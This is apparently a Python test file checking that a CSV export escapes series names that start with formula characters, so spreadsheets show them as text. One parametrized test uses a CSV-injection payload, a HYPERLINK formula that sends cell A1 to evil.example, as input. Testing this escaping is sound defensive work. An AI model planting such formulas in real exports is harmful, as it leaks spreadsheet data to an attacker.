"""``format=csv``: what a spreadsheet makes of it."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from saltern_graphite.evaluation.times import UTC
from saltern_graphite.render.formats.base import Options
from saltern_graphite.render.formats.csv import render
from saltern_graphite.series.series import Series


def cells(name: str, value: float = -1.5) -> list[list[str]]:
    body = render([Series(name, 0, 60, 60, np.array([value]), name)], Options(UTC)).body
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("sign", list("=+-@\t\r\n＝＋－＠"))
def test_a_name_that_would_be_a_formula_is_text(sign: str) -> None:
    name = f"{sign}HYPERLINK(\"http://evil.example/?\"&A1,'x')"
    assert cells(name) == [["'" + name, "1970-01-01 00:00:00", "-1.5"]]


@given(st.text(st.characters(exclude_categories=["Cs"])), st.floats(allow_nan=False))
def test_no_other_name_is_changed_and_no_number(name: str, value: float) -> None:
    ((shown, _, number),) = cells(name, value)
    assert shown in (name, f"'{name}")
    assert not shown.startswith(tuple("=+-@\t\r"))
    assert float(number) == value
